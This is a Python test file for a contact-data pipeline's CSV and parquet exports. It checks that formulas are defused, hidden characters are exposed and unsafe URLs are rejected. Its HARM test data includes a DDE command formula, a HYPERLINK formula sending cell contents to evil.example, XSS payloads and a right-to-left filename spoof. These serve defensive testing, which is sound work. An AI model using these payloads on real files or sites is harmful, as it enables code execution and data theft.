"""Exports of findings: safe to open, filterable, with the key of the source row.

Names that try to do harm fail.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.commands.findings import export_findings, write_repair_file, write_worklist
from pipeline.commands.options import Flags
from pipeline.commands.plan import plan_contacts
from pipeline.errors import UsageError
from pipeline.events import report_nothing
from pipeline.plan.request import PlanRequest
from pipeline.run.folder import RunFolder, find_run
from pipeline.show.spreadsheet import defuse, restore, write_csv
from pipeline.show.visible import make_visible
from pipeline.show.visible_frame import make_frame_visible
from schemas.codes import TOP, load_codes
from schemas.run import OUTCOMES
from tests.scenes.small import ACCOUNT, contactid, rows

Source = Callable[[list[dict[str, str]]], Path]

HARM: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
    "<script>alert(1)</script>",
    "\u202egpj.exe",
    "a\x07b\u2066c",
    '"><img src=x onerror=alert(1)>',
)


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def hostile() -> list[dict[str, str]]:
    """Contacts whose every free value is one of ``HARM``; all of them are rejected or held."""
    found = []
    for place, harm in enumerate(HARM, start=1):
        row = dict(rows()[0])
        row |= {
            "contactid": contactid(place),
            "msdynce_contactnumber": f"{harm}{place}",
            "firstname": harm,
        }
        row |= {
            "lastname": "L" * 26,
            "address1_country": harm,
            "ownerid": ACCOUNT[:-1] + str(place % 3),
        }
        found.append(row)
    return [*found, {**rows()[0], "contactid": "=cmd|evil", "firstname": "Ada", "ownerid": ""}]


def plan_of(source: Source, runs: Path, contacts: list[dict[str, str]]) -> tuple[Flags, RunFolder]:
    common = Flags(project=source(contacts), runs=runs)
    result = plan_contacts(common, PlanRequest(), report_nothing)
    return common, find_run(runs, result.summary.run)


def test_an_export_has_one_row_per_finding_with_the_key_of_its_row(
    common: Flags, run: RunFolder, tmp_path: Path
) -> None:
    to = tmp_path / "findings.csv"
    result = export_findings(common, str(run.run), to=to, codes=(), values=False)
    found = cells(to)
    assert len(found) == pl.read_parquet(run.findings).height == result.items[0]["rows"]
    held = next(one for one in found if one["code"] == "contact_number_missing")
    assert (held["contactid"], held["decision"], held["source_file"], held["source_line"]) == (
        contactid(10), "held", "contacts.csv", "11",
    )  # fmt: skip
    assert held["what_to_do"]
    assert "value" not in held


def test_values_are_in_it_only_when_asked_for(
    common: Flags, run: RunFolder, tmp_path: Path
) -> None:
    export_findings(common, str(run.run), to=tmp_path / "without.csv", codes=(), values=False)
    export_findings(common, str(run.run), to=tmp_path / "with.csv", codes=(), values=True)
    assert "L" * 26 not in (tmp_path / "without.csv").read_text()
    assert "L" * 26 in (tmp_path / "with.csv").read_text()


def test_codes_filter_and_an_unknown_one_gets_a_near_miss(
    common: Flags, run: RunFolder, tmp_path: Path
) -> None:
    to = tmp_path / "one.parquet"
    export_findings(common, str(run.run), to=to, codes=["too_long"], values=False)
    assert pl.read_parquet(to)["code"].unique().to_list() == ["too_long"]
    with pytest.raises(UsageError, match="Did you mean 'too_long'"):
        export_findings(common, str(run.run), to=to, codes=["to_long"], values=False)
    with pytest.raises(UsageError, match=r"\.csv or \.parquet"):
        export_findings(common, str(run.run), to=tmp_path / "x.xlsx", codes=(), values=False)


def test_groups_count_the_rows_they_are_about_as_the_summary_does_most_urgent_first(
    common: Flags, run: RunFolder
) -> None:
    items: Any = export_findings(common, str(run.run), to=None, codes=(), values=False).items
    summary = run.read_summary()
    rows = dict.fromkeys(summary.findings, 0)
    for one in items:
        rows[one["code"]] += one["rows"]
    assert rows == summary.findings
    assert rows["site_missing"] == summary.counts["customer"] > 1, "a finding of the run"
    assert sum(rows.values()) > pl.read_parquet(run.findings).height
    later = [one["severity"] for one in items if one["code"] not in TOP]
    assert later == sorted(later, key=["error", "hold", "warning", "also"].index)
    idle = [
        one["advice"].startswith("Nothing to do")
        for one in items
        if one["severity"] == "warning" and one["code"] not in TOP
    ]
    assert idle == sorted(idle), "what needs nobody is last"


def test_no_cell_of_an_export_is_a_formula_or_hides_characters(
    source: Source, tmp_path: Path
) -> None:
    common, run = plan_of(source, tmp_path / "runs", hostile())
    export_findings(common, str(run.run), to=tmp_path / "f.csv", codes=(), values=True)
    write_worklist(
        common, str(run.run), to=tmp_path / "w.csv", sales_url="https://contoso.crm.dynamics.com"
    )
    for name in ("f.csv", "w.csv"):
        found = [cell for row in cells(tmp_path / name) for cell in row.values()]
        assert any("cmd|" in cell for cell in found)
        assert not [cell for cell in found if re.match(r"\s*[=+\-@＝]", cell)]  # noqa: RUF001
        assert not [
            cell for cell in found if re.search("[\x00-\x1f\u202a-\u202e\u2066-\u2069]", cell)
        ]


def test_a_worklist_is_sorted_by_owner_and_links_to_the_records(
    source: Source, tmp_path: Path
) -> None:
    common, run = plan_of(source, tmp_path / "runs", hostile())
    result = write_worklist(
        common, str(run.run), to=tmp_path / "w.csv", sales_url="https://contoso.crm.dynamics.com/"
    )
    found = cells(tmp_path / "w.csv")
    assert len(found) == len(HARM) + 1 == sum(int(str(one["contacts"])) for one in result.items)
    owners = [one["owner"] for one in found]
    assert owners == [*sorted(one for one in owners if one), *(one for one in owners if not one)]
    link = "https://contoso.crm.dynamics.com/main.aspx?pagetype=entityrecord&etn=contact&id="
    assert {one["link"] for one in found if one["contactid"].startswith("0")} == {
        link + contactid(n + 1) for n in range(len(HARM))
    }
    assert [one["link"] for one in found if not one["contactid"].startswith("0")] == [""]
    assert all(one["what_to_do"] for one in found)
    with pytest.raises(UsageError, match="https://"):
        write_worklist(common, str(run.run), to=tmp_path / "w.csv", sales_url="javascript:alert(1)")


def test_a_worklist_says_what_it_cannot_tell(common: Flags, run: RunFolder, tmp_path: Path) -> None:
    text = str(write_worklist(common, str(run.run), to=tmp_path / "w.csv", sales_url=None).text)
    assert "No links" in text
    assert "no column ownerid" in text


def test_a_repair_file_gives_back_what_was_read(source: Source, tmp_path: Path) -> None:
    contacts = [row | {"description": row["firstname"]} for row in hostile()]
    common, run = plan_of(source, tmp_path / "runs", contacts)
    write_repair_file(common, str(run.run), to=tmp_path / "r.csv")
    back = pl.read_csv(tmp_path / "r.csv", infer_schema=False).with_columns(
        restore(pl.col(name)) for name in ("firstname", "description")
    )
    assert back["contactid"].to_list() == [contactid(place) for place in range(1, len(HARM) + 1)]
    assert back["firstname"].to_list() == list(HARM)
    assert back["description"].to_list() == list(HARM)
    assert back.columns[:4] == [
        "p2c_codes", "p2c_columns", "p2c_what_is_wrong", "p2c_what_to_do",
    ]  # fmt: skip
    told = back.select("p2c_codes", "p2c_what_to_do")
    assert told.null_count().row(0) == (0, 0)


def test_refused_rows_say_what_to_do_in_the_worklist_and_the_repair_file(
    source: Source, tmp_path: Path
) -> None:
    common, run = plan_of(source, tmp_path / "runs", hostile())
    ids = pl.read_parquet(run.decisions)["contactid"].head(2).to_list()
    decided = pl.read_parquet(run.decisions).with_columns(
        decision=pl.lit("customer"), reason=pl.lit("active_customer")
    )
    decided.write_parquet(run.decisions)
    codes = ["refused_party", None]
    rows = [
        {"contactid": one, "outcome": "failed", "code": code, "message": "No."}
        for one, code in zip(ids, codes, strict=True)
    ]
    pl.DataFrame(rows, schema=OUTCOMES).write_parquet(run.outcomes)
    write_worklist(common, str(run.run), to=tmp_path / "w.csv", sales_url=None)
    write_repair_file(common, str(run.run), to=tmp_path / "r.csv")
    work, repair = (pl.read_csv(tmp_path / one, infer_schema=False) for one in ("w.csv", "r.csv"))
    assert work["codes"].str.contains("refused_party").to_list().count(True) == 1
    for frame, column in ((work, "what_to_do"), (repair, "p2c_what_to_do")):
        assert frame.height == 2
        said = "".join(frame[column].to_list())
        assert load_codes()["refused_party"].advice in said
        assert "a reason that p2c does not know" in said


@given(st.lists(st.text(max_size=12) | st.sampled_from(HARM), min_size=1, max_size=20))
@settings(max_examples=80, deadline=None)
def test_defusing_loses_nothing_and_leaves_no_formula(texts: list[str]) -> None:
    frame = pl.DataFrame({"text": texts}, schema={"text": pl.String})
    safe = frame.with_columns(defuse(pl.col("text")))
    assert safe.with_columns(restore(pl.col("text"))).equals(frame)
    assert not [text for text in safe["text"] if re.match(r"[\s\x00-\x1f]*[=+\-@]", text)]


@given(st.text(max_size=30))
@settings(max_examples=80, deadline=None)
def test_visible_text_has_no_control_or_direction_characters(text: str) -> None:
    shown = make_visible(text)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", shown)
    assert shown == text or "\\" in shown
    assert make_frame_visible(pl.DataFrame({"text": [text]}))["text"][0] == shown


def test_a_file_that_cannot_be_written_whole_leaves_none(tmp_path: Path) -> None:
    def parts() -> Iterator[pl.DataFrame]:
        yield pl.DataFrame({"a": ["1"]})
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_csv(tmp_path / "x.csv", parts())
    assert list(tmp_path.iterdir()) == []
